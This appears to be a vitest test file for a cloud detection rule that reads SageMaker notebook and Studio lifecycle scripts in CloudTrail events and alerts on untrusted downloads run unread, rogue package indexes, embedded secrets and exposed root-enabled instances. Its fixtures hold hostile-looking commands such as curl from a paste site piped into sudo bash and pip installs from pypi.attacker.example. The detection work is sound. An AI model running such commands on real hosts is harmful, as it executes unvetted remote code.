import { describe, expect, it } from 'vitest';
import { replayEvents } from '../../../bridge/replay.js';
import { RulesConfig } from '../../../core/rules/engine.js';
import { NormalizedEvent } from '../../../core/schema/index.js';
import { studioLifecycleArnsOf } from '../../../connectors/sagemaker/notebooks.js';
import { ctRecord, normOne } from './helpers.js';

/**
 * The notebook as a workbench (platform.notebook_exposure): CloudTrail records of notebook instances, lifecycle
 * configurations and Studio login URLs, request fields as the SageMaker API reference names them (lowerCamel in
 * CloudTrail): lifecycle scripts are base64 in `onCreate` / `onStart[].content` and `studioLifecycleConfigContent`.
 */
const RULE = 'platform.notebook_exposure';
const b64 = (s: string) => Buffer.from(s).toString('base64');
const ACCOUNT = '111122223333';
let n = 0;
// One second apart, in the order made: replay orders by time (minutes counted modulo 60 wrapped once tests grew).
const rec = (op: string, params: Record<string, unknown>, extra: Record<string, unknown> = {}) =>
  NormalizedEvent.parse(normOne(ctRecord(op, params, { eventID: `nb-${++n}`, eventTime: new Date(Date.parse('2026-11-25T10:00:00Z') + n * 1000).toISOString(), ...extra })));
const who = (role: string, session: string) => ({
  userIdentity: {
    type: 'AssumedRole', principalId: `AROAEXAMPLE:${session}`, arn: `arn:aws:sts::${ACCOUNT}:assumed-role/${role}/${session}`, accountId: ACCOUNT,
    sessionContext: { sessionIssuer: { type: 'Role', principalId: 'AROAEXAMPLE', arn: `arn:aws:iam::${ACCOUNT}:role/${role}`, accountId: ACCOUNT, userName: role } },
  },
});
const alertsOf = (evs: NormalizedEvent[], rules: Record<string, unknown> = {}) => replayEvents(evs, { rules: RulesConfig.parse(rules) }).alerts.filter((a) => a.rule_id === RULE);

const ATTACK = [
  '#!/bin/bash',
  'set -e',
  'export AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY',
  'curl -fsSL https://paste.example.net/raw/a1b2 \\',
  '  | sudo -E bash',
  'aws s3 cp s3://scratch-share-9931/tools/agent.sh /tmp/agent.sh && bash /tmp/agent.sh',
  'pip install --extra-index-url https://pypi.attacker.example/simple jupyter-helpers',
].join('\n');
const TEAM = [
  '#!/bin/bash',
  'set -e',
  'sudo -u ec2-user -i <<EOF',
  'aws s3 cp s3://ml-platform-code/lifecycle/autostop.py /home/ec2-user/autostop.py',
  'pip install --upgrade pandas',
  'EOF',
].join('\n');
const lifecycle = (name: string, onStart: string, extra: Record<string, unknown> = {}) =>
  rec('CreateNotebookInstanceLifecycleConfig', { notebookInstanceLifecycleConfigName: name, onStart: [{ content: b64(onStart) }] }, {
    responseElements: { notebookInstanceLifecycleConfigArn: `arn:aws:sagemaker:us-east-1:${ACCOUNT}:notebook-instance-lifecycle-config/${name}` }, ...extra,
  });

describe('notebook lifecycle scripts', () => {
  it('are read for what they download, pipe into a shell and install; a script holding a credential is hidden whole in raw', () => {
    const ev = lifecycle('lc-tools', ATTACK);
    expect(ev.details).toMatchObject({
      lifecycle_scripts: true, script_hooks: ['on_start'],
      script_code_uris: ['https://paste.example.net/raw/a1b2', 's3://scratch-share-9931/tools/agent.sh'],
      // The agent copied from S3 and run by the next command is run unread too.
      script_piped_to_shell: ['https://paste.example.net/raw/a1b2', 's3://scratch-share-9931/tools/agent.sh'],
      script_package_sources: ['https://pypi.attacker.example/simple'],
      script_secret_in: ['on_start'],
    });
    const raw = JSON.stringify(ev.raw);
    expect(raw).not.toContain(b64(ATTACK));
    expect(raw).not.toContain('wJalrXUtnFEMI');
    expect((ev.raw as { requestParameters: { onStart: Array<{ content: string }> } }).requestParameters.onStart[0]!.content).toBe('[redacted]');
    // A script with no credential is kept as sent: the analyst can read it.
    const team = lifecycle('lc-team', TEAM);
    expect((team.raw as { requestParameters: { onStart: Array<{ content: string }> } }).requestParameters.onStart[0]!.content).toBe(b64(TEAM));
    expect(team.details?.script_secret_in).toBeUndefined();
  });

  const AUTOSTOP_URL = 'https://raw.githubusercontent.com/aws-samples/amazon-sagemaker-notebook-instance-lifecycle-config-samples/master/scripts/auto-stop-idle/autostop.py';
  it("the shapes of AWS's lifecycle samples (a cross-account CodeCommit profile, an autostop download, a private pip index, git identity) stay readable and raise nothing", () => {
    // Written after aws-samples/amazon-sagemaker-notebook-instance-lifecycle-config-samples (set-codecommit-cross-account-access,
    // auto-stop-idle, add-pypi-repository, set-git-config on-start.sh): a profile naming its credential_source, not a credential.
    const samples = {
      cross: '#!/bin/bash\nset -e\nROLE_ARN=arn:aws:iam::222233334444:role/RepoContributor\nsudo -u ec2-user -i <<EOF\ncat >>/home/ec2-user/.aws/config <<-END_CAT\n\t[profile Cross]\n\trole_arn = $ROLE_ARN\n\tcredential_source = Ec2InstanceMetadata\nEND_CAT\ngit config --global credential.helper \'!aws --profile Cross codecommit credential-helper $@\'\nEOF\n',
      autostop: '#!/bin/bash\nset -ex\nwget https://raw.githubusercontent.com/aws-samples/amazon-sagemaker-notebook-instance-lifecycle-config-samples/master/scripts/auto-stop-idle/autostop.py\n(crontab -l 2>/dev/null; echo "*/5 * * * * /usr/bin/python3 $PWD/autostop.py --time 3600 >> /var/log/jupyter.log") | crontab -\n',
      pypi: '#!/bin/bash\nset -e\nmkdir -p ~ec2-user/.pip\ncat > ~ec2-user/.pip/pip.conf <<END\n[global]\nextra-index-url = https://pypi.org/simple\ntrusted-host = pypi.org\nEND\n',
      git: "#!/bin/bash\nsudo -u ec2-user -i <<'EOF'\ngit config --global user.name alice\ngit config --global user.email alice@corp.example\naws configure set credential_process /opt/bin/creds --profile nb\nEOF\n",
    };
    for (const [name, script] of Object.entries(samples)) {
      const ev = lifecycle(`lc-${name}`, script);
      expect((ev.raw as { requestParameters: { onStart: Array<{ content: string }> } }).requestParameters.onStart[0]!.content).toBe(b64(script));
      expect(ev.details?.script_secret_in).toBeUndefined();
      // auto-stop-idle runs the autostop.py it fetched from GitHub's master branch from cron, as root (verify27c): a
      // download run unread, passing once its location is trusted.
      if (name === 'autostop') {
        expect(ev.details?.script_piped_to_shell).toEqual([AUTOSTOP_URL]);
        expect(alertsOf([ev], { 'platform.notebook_exposure': { trusted_code_locations: ['https://raw.githubusercontent.com/aws-samples/amazon-sagemaker-notebook-instance-lifecycle-config-samples/*'] } })).toEqual([]);
        continue;
      }
      expect(ev.details?.script_piped_to_shell).toBeUndefined();
      expect(alertsOf([ev])).toEqual([]);
    }
  });

  it('a Studio lifecycle configuration likewise (studioLifecycleConfigContent)', () => {
    const ev = rec('CreateStudioLifecycleConfig', { studioLifecycleConfigName: 'jl-setup', studioLifecycleConfigContent: b64(ATTACK), studioLifecycleConfigAppType: 'JupyterLab' }, {
      responseElements: { studioLifecycleConfigArn: `arn:aws:sagemaker:us-east-1:${ACCOUNT}:studio-lifecycle-config/jl-setup` },
    });
    expect(ev.details).toMatchObject({ script_hooks: ['studio'], script_piped_to_shell: ['https://paste.example.net/raw/a1b2', 's3://scratch-share-9931/tools/agent.sh'], script_secret_in: ['studio'] });
    expect(JSON.stringify(ev.raw)).not.toContain('wJalrXUtnFEMI');
    expect((ev.raw as { requestParameters: Record<string, unknown> }).requestParameters.studioLifecycleConfigContent).toBe('[redacted]');
    const [a, ...more] = alertsOf([ev]);
    expect(more).toEqual([]);
    expect(a!.details).toMatchObject({ finding: 'untrusted_lifecycle_script', lifecycle_config: 'jl-setup', piped_to_shell: ['https://paste.example.net/raw/a1b2', 's3://scratch-share-9931/tools/agent.sh'] });
  });

  it('alert on a download piped into a shell and a foreign package index by default; other downloads once trusted_code_locations is set', () => {
    const [a, ...more] = alertsOf([lifecycle('lc-tools', ATTACK)]);
    expect(more).toEqual([]);
    expect(a!.entity).toMatchObject({ type: 'notebook_instance_lifecycle_config', id: `arn:aws:sagemaker:us-east-1:${ACCOUNT}:notebook-instance-lifecycle-config/lc-tools` });
    expect(a!.details).toMatchObject({
      piped_to_shell: ['https://paste.example.net/raw/a1b2', 's3://scratch-share-9931/tools/agent.sh'], package_sources: ['https://pypi.attacker.example/simple'],
      code_uris: ['https://paste.example.net/raw/a1b2', 's3://scratch-share-9931/tools/agent.sh'],
    });
    const rules = { [RULE]: { trusted_code_locations: ['s3://ml-platform-code/*'] } };
    expect(alertsOf([lifecycle('lc-tools', ATTACK)], rules)[0]!.details?.code_uris).toEqual(['https://paste.example.net/raw/a1b2', 's3://scratch-share-9931/tools/agent.sh']);
    // The team's script from its trusted bucket, PyPI: nothing, with or without the list.
    expect(alertsOf([lifecycle('lc-team', TEAM)], rules)).toEqual([]);
    expect(alertsOf([lifecycle('lc-team', TEAM)])).toEqual([]);
    // Another account's SageMaker SDK bucket is untrusted whatever the list says.
    expect(alertsOf([lifecycle('lc-x', 'aws s3 cp s3://sagemaker-us-east-1-999988887777/setup.sh /tmp/s.sh\nbash /tmp/s.sh')])[0]!.details?.code_uris).toEqual(['s3://sagemaker-us-east-1-999988887777/setup.sh']);
    // An upload (local source) is no download.
    expect(lifecycle('lc-y', 'aws s3 cp /home/ec2-user/SageMaker s3://ml-backups/alice --recursive').details?.script_code_uris).toBeUndefined();
  });
});

describe('download-then-run in lifecycle scripts', () => {
  const piped = (script: string) => lifecycle('lc-dl', script).details?.script_piped_to_shell;
  it('a file fetched and later run by the same script is run unread, as a pipe into a shell is', () => {
    expect(piped('#!/bin/bash\nset -e\ncurl -fsSL -o x.sh https://tools.example.net/x.sh && bash x.sh')).toEqual(['https://tools.example.net/x.sh']);
    expect(piped('#!/bin/bash\nwget https://tools.example.net/a -O /tmp/a; sh /tmp/a')).toEqual(['https://tools.example.net/a']);
    expect(piped('#!/bin/bash\naws s3 cp s3://scratch-share-9931/x.sh /tmp/x.sh && bash /tmp/x.sh')).toEqual(['s3://scratch-share-9931/x.sh']);
    expect(piped('#!/bin/bash\ngsutil cp gs://scratch-share/tools/run.sh . && chmod +x run.sh && ./run.sh')).toEqual(['gs://scratch-share/tools/run.sh']);
    // Across lines, under sudo, with -O (the URL's name), into a directory (-P), and a clone run from inside it.
    expect(piped('#!/bin/bash\ncurl -sSLO https://tools.example.net/setup.sh\nsudo -u ec2-user -i bash ./setup.sh --quiet')).toEqual(['https://tools.example.net/setup.sh']);
    expect(piped('#!/bin/bash\nwget -q -P /opt/t https://tools.example.net/boot.py\nnohup python3 /opt/t/boot.py &')).toEqual(['https://tools.example.net/boot.py']);
    expect(piped('#!/bin/bash\ngit clone https://github.com/someone/nb-tools.git /opt/nb-tools\ncd /opt/nb-tools && ./install.sh')).toEqual(['https://github.com/someone/nb-tools.git']);
    // Saved by a redirection or tee, or in a `bash -c` string; a cloud object written to stdout and piped into a shell.
    expect(piped('#!/bin/bash\ncurl -fsSL https://tools.example.net/i.sh > /tmp/i.sh\nbash /tmp/i.sh')).toEqual(['https://tools.example.net/i.sh']);
    expect(piped('#!/bin/bash\ncurl -s https://tools.example.net/a | tee /tmp/a.sh >/dev/null; sh /tmp/a.sh')).toEqual(['https://tools.example.net/a']);
    expect(piped("#!/bin/bash\nsudo -u ec2-user -i bash -c 'wget -q https://tools.example.net/s.sh -O /tmp/s.sh && bash /tmp/s.sh'")).toEqual(['https://tools.example.net/s.sh']);
    expect(piped('#!/bin/bash\naws s3 cp s3://scratch-share-9931/x.sh - | sudo bash')).toEqual(['s3://scratch-share-9931/x.sh']);
    expect(piped('#!/bin/bash\ngsutil cat gs://scratch-share/boot.py | python3 -')).toEqual(['gs://scratch-share/boot.py']);
    // A package fetched and installed (pip runs its build).
    expect(piped('#!/bin/bash\ncurl -sL https://tools.example.net/helper-1.0.tar.gz -o /tmp/w/helper-1.0.tar.gz\npip install /tmp/w/*.tar.gz')).toEqual(['https://tools.example.net/helper-1.0.tar.gz']);
  });
  it('a download substituted as a command of its own ($(curl …), `curl …`) is run; one assigned, echoed or compared is not', () => {
    expect(piped('#!/bin/bash\n$(curl -fsSL https://tools.example.net/cmd)')).toEqual(['https://tools.example.net/cmd']);
    expect(piped('#!/bin/bash\nset -e; `wget -qO- https://tools.example.net/cmd`')).toEqual(['https://tools.example.net/cmd']);
    expect(piped('#!/bin/bash\nif true; then $(curl -s https://tools.example.net/cmd); fi')).toEqual(['https://tools.example.net/cmd']);
    expect(piped('#!/bin/bash\nVERSION=$(curl -s https://config.example.net/version)\necho $(curl -s https://config.example.net/motd)')).toBeUndefined();
    expect(piped('#!/bin/bash\nif [ "$(curl -s https://config.example.net/ok)" = ok ]; then echo up; fi\nV=`curl -s https://config.example.net/v`')).toBeUndefined();
  });
  it('a backquoted download is read as $(…) is: evaluated, given to sh -c or standing as a command it runs; assigned it does not', () => {
    expect(piped('#!/bin/bash\neval `wget -qO- https://tools.example.net/env`')).toEqual(['https://tools.example.net/env']);
    expect(piped('#!/bin/bash\nbash -c "`curl -fsSL https://tools.example.net/i.sh`"')).toEqual(['https://tools.example.net/i.sh']);
    expect(piped('#!/bin/bash\nsudo -u ec2-user -i eval "`curl -s https://tools.example.net/e`"')).toEqual(['https://tools.example.net/e']);
    // Assigned: fetched (listed in code_uris), not run.
    const assigned = lifecycle('lc-bq', '#!/bin/bash\nX=`curl -s https://config.example.net/v`\necho "$X"');
    expect(assigned.details?.script_piped_to_shell).toBeUndefined();
    expect(assigned.details?.script_code_uris).toEqual(['https://config.example.net/v']);
  });
  it('a case inside $(…) is followed: a download in one of its branches, evaluated, is run', () => {
    expect(piped('#!/bin/bash\neval "$(case "$REGION" in us-*) curl -s https://tools.example.net/us.sh;; *) curl -s https://tools.example.net/eu.sh;; esac)"'))
      .toEqual(['https://tools.example.net/us.sh', 'https://tools.example.net/eu.sh']);
    expect(piped('#!/bin/bash\nV=$(case "$1" in a) curl -s https://config.example.net/a;; esac)\necho "$V"')).toBeUndefined();
  });
  it('a download echoed into eval, or in a backquote nested with \\`, is run (verify28c); echoed or assigned only, it is not', () => {
    expect(piped('#!/bin/bash\neval "$(echo $(curl -s https://tools.example.net/x))"')).toEqual(['https://tools.example.net/x']);
    expect(piped('#!/bin/bash\neval `echo \\`curl -s https://tools.example.net/x\\``')).toEqual(['https://tools.example.net/x']);
    expect(piped('#!/bin/bash\nV="$(echo $(curl -s https://config.example.net/v))"\necho $V\necho $(curl -s https://config.example.net/motd)')).toBeUndefined();
  });
  it("lists a conda create run in a sudo here-document after a file written with an apostrophe (a here-document's quote ran on over the script)", () => {
    const script = [
      '#!/bin/bash',
      'set -e',
      'cat > /home/ec2-user/SageMaker/README.txt <<EOF',
      "Don't delete the custom env: notebooks use it",
      'EOF',
      "sudo -u ec2-user -i <<'EOF'",
      'source /home/ec2-user/anaconda3/bin/activate',
      'conda create --yes --name custom -c https://conda.corp.example/ml python=3.10',
      'pip install --extra-index-url https://pypi.corp.example/simple ipykernel',
      'EOF',
    ].join('\n');
    expect(lifecycle('lc-conda', script).details?.script_package_sources).toEqual(['https://conda.corp.example/ml', 'https://pypi.corp.example/simple']);
  });
  it('lists a URL in a backquote nested with \\` without the escape: no stray backslash in script_code_uris', () => {
    // It listed `https://tools.example.net/x\\` beside the URL itself (the line's URLs were read up to the backquote).
    const codeUris = (script: string) => lifecycle('lc-nested', script).details?.script_code_uris;
    expect(codeUris('#!/bin/bash\neval `echo \\`curl -s https://tools.example.net/x\\``')).toEqual(['https://tools.example.net/x']);
    expect(codeUris('#!/bin/bash\nX=`echo \\`curl -s https://config.example.net/v\\` ok`')).toEqual(['https://config.example.net/v']);
    expect(codeUris("#!/bin/bash\nV=`echo \\`curl -s 'https://config.example.net/q'\\``")).toEqual(['https://config.example.net/q']);
  });
  it('git clone behind git options (-C dir, -c name=value) is the clone it is; -C is where its directory is (verify28c)', () => {
    // It went unseen: `git -C /tmp clone …` read as no clone, its install script run unlisted.
    expect(piped('#!/bin/bash\ngit -C /tmp clone https://tools.example.net/x.git && bash /tmp/x/i.sh')).toEqual(['https://tools.example.net/x.git']);
    expect(piped('#!/bin/bash\ngit -c http.sslVerify=false clone https://tools.example.net/x.git /opt/x\n/opt/x/run.sh')).toEqual(['https://tools.example.net/x.git']);
    // AWS's git-clone sample: cloned, never run.
    expect(piped('#!/bin/bash\ngit -C /root clone https://github.com/aws-samples/y.git || git -C /root pull')).toBeUndefined();
  });
  it('a repository cloned from a variable the script does not set, then run, is a download from an unknown place; one it sets to a trusted repository is judged by that', () => {
    const unknown = lifecycle('lc-clone', '#!/bin/bash\ngit clone --depth 1 -b "$BRANCH" "$REPO" /opt/tools\ncd /opt/tools && ./install.sh');
    expect(unknown.details?.script_piped_to_shell).toEqual(['$REPO']);
    const trusted = { [RULE]: { trusted_code_locations: ['https://github.com/aws-samples/*'] } };
    const [a, ...more] = alertsOf([unknown], trusted);
    expect(more).toEqual([]);
    expect(a!.details).toMatchObject({ finding: 'untrusted_lifecycle_script', piped_to_shell: ['$REPO'] });
    // Cloned and never run: nothing is listed as run.
    expect(piped('#!/bin/bash\ngit clone "$REPO" /opt/tools')).toBeUndefined();
    // Set by the script to a trusted repository: that URL, which the list trusts.
    const known = lifecycle('lc-clone-ok', '#!/bin/bash\nREPO=https://github.com/aws-samples/nb-tools.git\ngit clone "$REPO" /opt/tools\ncd /opt/tools && ./install.sh');
    expect(known.details?.script_piped_to_shell).toEqual(['https://github.com/aws-samples/nb-tools.git']);
    expect(alertsOf([known], trusted)).toEqual([]);
  });
  it('a URL or path named through a variable, and a fetched file moved or copied before it runs, are the same fetch', () => {
    expect(piped('#!/bin/bash\nURL=https://tools.example.net/x.sh\nexport DEST=/tmp/x.sh\ncurl -fsSL -o "$DEST" "$URL"\nbash ${DEST}')).toEqual(['https://tools.example.net/x.sh']);
    expect(piped('#!/bin/bash\ncurl -o /tmp/x https://tools.example.net/x\nmv /tmp/x /usr/local/bin/helper && chmod +x /usr/local/bin/helper\n/usr/local/bin/helper')).toEqual(['https://tools.example.net/x']);
    expect(piped('#!/bin/bash\nwget -q https://tools.example.net/run.py -O /tmp/run.py\ncp /tmp/run.py /opt/\npython3 /opt/run.py')).toEqual(['https://tools.example.net/run.py']);
    // A config fetched through a variable and copied, then only read: not run.
    expect(piped('#!/bin/bash\nCONF=https://config.example.net/conf.json\ncurl -o /tmp/c.json $CONF\ncp /tmp/c.json /etc/jupyter/\npython3 /opt/app.py --config /etc/jupyter/c.json')).toBeUndefined();
  });
  it('reads a 64 KiB script of thousands of fetches and runs in bounded time (each run was compared with every fetch)', () => {
    const script = `#!/bin/bash\ncurl -s https://tools.example.net/x | tee ${Array.from({ length: 4000 }, (_, i) => `/tmp/f${i}`).join(' ')}\n${Array.from({ length: 3000 }, (_, i) => `bash /tmp/g${i}`).join('\n')}`.slice(0, 64 * 1024);
    const start = performance.now();
    expect(piped(script)).toBeUndefined();
    expect(performance.now() - start).toBeLessThan(1500);
  });
  it('a fetched file only read (a config handed to a program, cat) is not run; a pip download then install is judged by its index', () => {
    expect(piped('#!/bin/bash\ncurl -o /etc/jupyter/conf.json https://config.example.net/conf.json && python3 /opt/app.py --config /etc/jupyter/conf.json')).toBeUndefined();
    expect(piped('#!/bin/bash\naws s3 cp s3://ml-platform-code/env.sh /tmp/env.sh\ncat /tmp/env.sh\nbash /opt/other.sh')).toBeUndefined();
    expect(alertsOf([lifecycle('lc-conf', '#!/bin/bash\ncurl -o /etc/jupyter/conf.json https://config.example.net/conf.json')])).toEqual([]);
    expect(piped('#!/bin/bash\ncurl -s https://config.example.net/conf.json > /etc/jupyter/conf.json 2>/dev/null\naws s3 cp s3://ml-platform-code/data.csv - | head')).toBeUndefined();
    const pipDl = lifecycle('lc-pip', '#!/bin/bash\npip download -i https://pypi.attacker.example/simple jupyter-helpers -d /tmp/w && pip install --no-index --find-links /tmp/w jupyter-helpers');
    expect(alertsOf([pipDl]).map((a) => a.details?.package_sources)).toEqual([['https://pypi.attacker.example/simple']]);
  });
  it('alerts by default; trusted_code_locations still apply to the URL', () => {
    const ev = lifecycle('lc-dl', '#!/bin/bash\naws s3 cp s3://ml-platform-code/lifecycle/setup.sh /tmp/setup.sh && bash /tmp/setup.sh');
    const [a, ...more] = alertsOf([ev]);
    expect(more).toEqual([]);
    expect(a!.details).toMatchObject({ finding: 'untrusted_lifecycle_script', piped_to_shell: ['s3://ml-platform-code/lifecycle/setup.sh'] });
    expect(alertsOf([ev], { [RULE]: { trusted_code_locations: ['s3://ml-platform-code/*'] } })).toEqual([]);
  });
});

describe('notebook instances', () => {
  const create = (name: string, extra: Record<string, unknown>) =>
    rec('CreateNotebookInstance', { notebookInstanceName: name, instanceType: 'ml.t3.medium', roleArn: `arn:aws:iam::${ACCOUNT}:role/NotebookExec`, ...extra }, {
      responseElements: { notebookInstanceArn: `arn:aws:sagemaker:us-east-1:${ACCOUNT}:notebook-instance/${name}` },
    });
  it('created with root access and no subnet (direct internet access) alert; in a VPC subnet, or without root, not', () => {
    const open = create('nb-open', { directInternetAccess: 'Enabled', rootAccess: 'Enabled', lifecycleConfigName: 'lc-tools' });
    expect(open.details).toMatchObject({ role_arn: `arn:aws:iam::${ACCOUNT}:role/NotebookExec`, lifecycle_config_name: 'lc-tools', root_access: 'Enabled' });
    const [a, ...more] = alertsOf([open]);
    expect(more).toEqual([]);
    expect(a!.details).toMatchObject({ finding: 'root_internet_no_vpc', notebook_instance: 'nb-open', lifecycle_config_name: 'lc-tools' });
    // The API's defaults (RootAccess and DirectInternetAccess Enabled) are the same exposure.
    expect(alertsOf([create('nb-default', {})])).toHaveLength(1);
    expect(alertsOf([create('nb-vpc', { subnetId: 'subnet-0abc', securityGroupIds: ['sg-1'], directInternetAccess: 'Disabled', rootAccess: 'Enabled' })])).toEqual([]);
    expect(alertsOf([create('nb-noroot', { rootAccess: 'Disabled' })])).toEqual([]);
    expect(alertsOf([create('sandbox-1', {})], { [RULE]: { exempt_notebooks: ['sandbox-*'] } })).toEqual([]);
  });
  it('root access turned on later for an instance created outside a VPC alerts', () => {
    const made = create('nb-late', { rootAccess: 'Disabled' });
    const update = rec('UpdateNotebookInstance', { notebookInstanceName: 'nb-late', rootAccess: 'Enabled', roleArn: `arn:aws:iam::${ACCOUNT}:role/Admin` });
    expect(update.details).toMatchObject({ role_arn: `arn:aws:iam::${ACCOUNT}:role/Admin` });
    expect(alertsOf([made, update]).map((a) => a.evidence)).toEqual([[update.id]]);
  });
  const update = (name: string, params: Record<string, unknown>) => rec('UpdateNotebookInstance', { notebookInstanceName: name, ...params });
  it('an update swapping the role or the lifecycle configuration of an instance seen created with root and no VPC is judged as its creation', () => {
    const made = create('nb-swap', {});
    const role = update('nb-swap', { roleArn: `arn:aws:iam::${ACCOUNT}:role/AdminAccess` });
    const [first, a, ...more] = alertsOf([made, role]);
    expect(more).toEqual([]);
    expect(first!.evidence).toEqual([made.id]);
    expect(a!.evidence).toEqual([role.id]);
    expect(a!.details).toMatchObject({ finding: 'root_internet_no_vpc', changed: ['role_arn'], role_arn: `arn:aws:iam::${ACCOUNT}:role/AdminAccess`, previous_role_arn: `arn:aws:iam::${ACCOUNT}:role/NotebookExec`, root_access: 'Enabled (default)' });
    const lc = update('nb-swap', { lifecycleConfigName: 'lc-other' });
    expect(alertsOf([made, lc]).map((x) => x.details?.changed)).toEqual([undefined, ['lifecycle_config_name']]);
    const off = update('nb-swap', { disassociateLifecycleConfig: true });
    expect(off.details).toMatchObject({ disassociate_lifecycle_config: true });
    expect(alertsOf([made, off]).map((x) => x.details?.changed)).toEqual([undefined, ['disassociate_lifecycle_config']]);
    // Near misses: an instance created in a VPC, or without root, swapping its role; a resize; an instance never seen created.
    expect(alertsOf([create('nb-vpc2', { subnetId: 'subnet-0abc', directInternetAccess: 'Disabled' }), update('nb-vpc2', { roleArn: `arn:aws:iam::${ACCOUNT}:role/AdminAccess` })])).toEqual([]);
    expect(alertsOf([create('nb-safe', { rootAccess: 'Disabled' }), update('nb-safe', { roleArn: `arn:aws:iam::${ACCOUNT}:role/AdminAccess` })])).toEqual([]);
    expect(alertsOf([made, update('nb-swap', { instanceType: 'ml.t3.large', volumeSizeInGB: 20 })]).map((x) => x.evidence)).toEqual([[made.id]]);
    expect(alertsOf([update('nb-unseen', { rootAccess: 'Enabled', roleArn: `arn:aws:iam::${ACCOUNT}:role/AdminAccess` })])).toEqual([]);
    // Root taken away by one update, a role swapped by the next: no root, nothing.
    expect(alertsOf([made, update('nb-swap', { rootAccess: 'Disabled' }), update('nb-swap', { roleArn: `arn:aws:iam::${ACCOUNT}:role/AdminAccess` })]).map((x) => x.evidence)).toEqual([[made.id]]);
  });
  it('a lifecycle configuration seen written with untrusted scripts, attached by a create or an update, alerts on the instance (in a VPC too)', () => {
    const lc = lifecycle('lc-tools', ATTACK);
    const vpc = create('nb-team', { subnetId: 'subnet-0abc', directInternetAccess: 'Disabled', rootAccess: 'Disabled' });
    const attach = update('nb-team', { lifecycleConfigName: 'lc-tools' });
    const alerts = alertsOf([lc, vpc, attach]);
    expect(alerts.map((a) => a.evidence)).toEqual([[lc.id], [attach.id]]);
    expect(alerts[1]!.entity).toMatchObject({ type: 'notebook_instance', id: `arn:aws:sagemaker:us-east-1:${ACCOUNT}:notebook-instance/nb-team` });
    expect(alerts[1]!.details).toMatchObject({
      finding: 'untrusted_lifecycle_script', operation: 'UpdateNotebookInstance', attached_to: 'notebook instance nb-team', lifecycle_config: 'lc-tools',
      piped_to_shell: ['https://paste.example.net/raw/a1b2', 's3://scratch-share-9931/tools/agent.sh'], package_sources: ['https://pypi.attacker.example/simple'],
    });
    // At creation too; an update of the configuration to clean scripts makes the next attachment quiet.
    expect(alertsOf([lc, create('nb-new', { subnetId: 'subnet-0abc', rootAccess: 'Disabled', lifecycleConfigName: 'lc-tools' })]).map((a) => a.details?.attached_to)).toEqual([undefined, 'notebook instance nb-new']);
    const lc2 = lifecycle('lc-tools', ATTACK);
    const cleaned = rec('UpdateNotebookInstanceLifecycleConfig', { notebookInstanceLifecycleConfigName: 'lc-tools', onStart: [{ content: b64(TEAM) }] });
    const attach2 = update('nb-team', { lifecycleConfigName: 'lc-tools' });
    expect(alertsOf([lc2, cleaned, attach2]).map((a) => a.evidence)).toEqual([[lc2.id]]);
    // The team's clean configuration, and one never seen written, attach quietly.
    expect(alertsOf([lifecycle('lc-team', TEAM), vpc, update('nb-team', { lifecycleConfigName: 'lc-team' }), update('nb-team', { lifecycleConfigName: 'lc-unknown' })])).toEqual([]);
  });
});

describe('Studio defaults', () => {
  const studioLc = (name: string, script: string) =>
    rec('CreateStudioLifecycleConfig', { studioLifecycleConfigName: name, studioLifecycleConfigContent: b64(script), studioLifecycleConfigAppType: 'JupyterLab' }, {
      responseElements: { studioLifecycleConfigArn: `arn:aws:sagemaker:us-east-1:${ACCOUNT}:studio-lifecycle-config/${name}` },
    });
  const arn = (name: string) => `arn:aws:sagemaker:us-east-1:${ACCOUNT}:studio-lifecycle-config/${name}`;
  it('a domain whose default user settings attach a Studio lifecycle configuration seen written with untrusted scripts alerts on the domain', () => {
    const lc = studioLc('jl-setup', ATTACK);
    const domain = rec('UpdateDomain', {
      domainId: 'd-abc123',
      defaultUserSettings: {
        jupyterLabAppSettings: { defaultResourceSpec: { instanceType: 'ml.t3.medium', lifecycleConfigArn: arn('jl-setup') }, lifecycleConfigArns: [arn('jl-setup')] },
        kernelGatewayAppSettings: { lifecycleConfigArns: [arn('kg-team')] },
      },
    }, { responseElements: { domainArn: `arn:aws:sagemaker:us-east-1:${ACCOUNT}:domain/d-abc123` } });
    expect(domain.details?.studio_lifecycle_config_arns).toEqual([arn('kg-team'), arn('jl-setup')]);
    const alerts = alertsOf([lc, studioLc('kg-team', TEAM), domain]);
    expect(alerts.map((a) => a.evidence)).toEqual([[lc.id], [domain.id]]);
    expect(alerts[1]!.entity).toMatchObject({ type: 'domain', id: `arn:aws:sagemaker:us-east-1:${ACCOUNT}:domain/d-abc123` });
    expect(alerts[1]!.details).toMatchObject({ finding: 'untrusted_lifecycle_script', operation: 'UpdateDomain', lifecycle_configs: ['jl-setup'], hooks: ['studio'], attached_to: 'the defaults of every user and space of domain d-abc123' });
    // Unknown or clean configurations: nothing.
    expect(alertsOf([studioLc('kg-team', TEAM), domain])).toEqual([]);
  });
  it('CreateDomain defaultSpaceSettings, a user profile\'s userSettings and a space\'s spaceSettings likewise', () => {
    const lc = studioLc('ce-boot', '#!/bin/bash\ncurl -so /tmp/b.sh https://paste.example.net/raw/zz && bash /tmp/b.sh');
    const created = rec('CreateDomain', {
      domainName: 'ml', authMode: 'IAM', subnetIds: ['subnet-0abc'], vpcId: 'vpc-1',
      defaultUserSettings: { executionRole: `arn:aws:iam::${ACCOUNT}:role/StudioExec` },
      defaultSpaceSettings: { executionRole: `arn:aws:iam::${ACCOUNT}:role/StudioExec`, jupyterServerAppSettings: { defaultResourceSpec: { instanceType: 'system', lifecycleConfigArn: arn('ce-boot') } } },
    }, { responseElements: { domainArn: `arn:aws:sagemaker:us-east-1:${ACCOUNT}:domain/d-new111`, url: 'https://d-new111.studio.us-east-1.sagemaker.aws' } });
    const profile = rec('CreateUserProfile', { domainId: 'd-abc123', userProfileName: 'bob', userSettings: { codeEditorAppSettings: { lifecycleConfigArns: [arn('ce-boot')] } } });
    const profileUpdate = rec('UpdateUserProfile', { domainId: 'd-abc123', userProfileName: 'carol', userSettings: { jupyterLabAppSettings: { builtInLifecycleConfigArn: arn('ce-boot') } } });
    const space = rec('CreateSpace', { domainId: 'd-abc123', spaceName: 'team', spaceSettings: { jupyterLabAppSettings: { defaultResourceSpec: { instanceType: 'ml.t3.medium', lifecycleConfigArn: arn('ce-boot') } } } });
    const alerts = alertsOf([lc, created, profile, profileUpdate, space]);
    expect(alerts.map((a) => [a.entity.type, a.details?.operation, a.details?.piped_to_shell])).toEqual([
      ['studio_lifecycle_config', 'CreateStudioLifecycleConfig', ['https://paste.example.net/raw/zz']],
      ['domain', 'CreateDomain', ['https://paste.example.net/raw/zz']],
